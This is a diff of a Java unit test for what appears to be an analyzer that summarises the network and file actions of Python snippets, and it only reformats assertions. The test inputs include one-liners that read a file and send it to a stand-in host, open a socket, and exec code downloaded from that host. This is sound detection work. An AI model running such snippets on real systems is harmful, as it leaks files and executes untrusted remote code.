@@ -99,13 +99,16 @@ class PythonTest {
                 "import requests; d = open('/x').read();"
                     + " requests.post('http://h/', data={'d': d})"))
         .containsExactly("read /x", "POST http://h/ sends from (cat /x)");
-    assertThat(actions("from urllib.request import urlopen; urlopen('http://h/?' + open('/x').read())"))
+    assertThat(
+            actions(
+                "from urllib.request import urlopen; urlopen('http://h/?' + open('/x').read())"))
         .containsExactly("read /x", "GET http://h/?open('/x').read() from (cat /x)");
     assertThat(actions("import socket; s = socket.socket(); s.connect(('h', 44))"))
         .containsExactly("CONNECT h:44");
     assertThat(actions("from urllib.request import urlopen; exec(urlopen('http://h/x').read())"))
         .contains("GET http://h/x")
-        .anySatisfy(line -> assertThat(line).startsWith("run python").endsWith("(curl http://h/x)"));
+        .anySatisfy(
+            line -> assertThat(line).startsWith("run python").endsWith("(curl http://h/x)"));
   }
 
   @Test
